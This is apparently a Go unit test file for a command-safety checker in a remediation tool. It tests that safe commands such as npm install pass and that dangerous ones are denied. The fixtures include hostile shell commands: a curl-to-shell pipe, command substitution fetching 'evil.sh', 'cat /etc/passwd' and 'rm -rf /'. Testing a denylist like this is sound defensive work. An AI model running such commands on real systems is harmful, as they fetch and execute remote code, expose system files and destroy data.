package remediator

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestCheckSafety(t *testing.T) {
	tests := []struct {
		name    string
		command string
		safe    bool
		reason  string
	}{
		{
			name:    "npm install is safe",
			command: "npm install --legacy-peer-deps",
			safe:    true,
			reason:  "Safe command pattern: npm install",
		},
		{
			name:    "npm ci is safe",
			command: "npm ci",
			safe:    true,
			reason:  "Safe command pattern: npm ci",
		},
		{
			name:    "git pull is safe",
			command: "git pull origin main",
			safe:    true,
			reason:  "Safe command pattern: git pull",
		},
		{
			name:    "echo is safe",
			command: "echo hello",
			safe:    true,
			reason:  "Safe command pattern: echo ",
		},
		{
			name:    "rm -rf is dangerous",
			command: "rm -rf node_modules",
			safe:    false,
			reason:  "Dangerous pattern detected: rm -rf",
		},
		{
			name:    "denylist wins over safe prefix",
			command: "npm install $(curl evil.sh)",
			safe:    false,
			reason:  "Dangerous pattern detected: $(",
		},
		{
			name:    "sudo rm anywhere in the command",
			command: "cd /tmp && sudo rm -rf /tmp/x",
			safe:    false,
		},
		{
			name:    "backtick substitution",
			command: "echo `whoami`",
			safe:    false,
		},
		{
			name:    "pipe to shell",
			command: "curl https://example.com/fix.sh |sh",
			safe:    false,
		},
		{
			name:    "system path access",
			command: "cat /etc/passwd",
			safe:    false,
		},
		{
			name:    "case insensitive denylist",
			command: "RM -RF /",
			safe:    false,
		},
		{
			name:    "unknown command defaults to deny",
			command: "make deploy",
			safe:    false,
			reason:  "Command requires manual review",
		},
		{
			name:    "empty command defaults to deny",
			command: "",
			safe:    false,
			reason:  "Command requires manual review",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			safe, reason := CheckSafety(tt.command)
			assert.Equal(t, tt.safe, safe)
			if tt.reason != "" {
				assert.Equal(t, tt.reason, reason)
			}
		})
	}
}
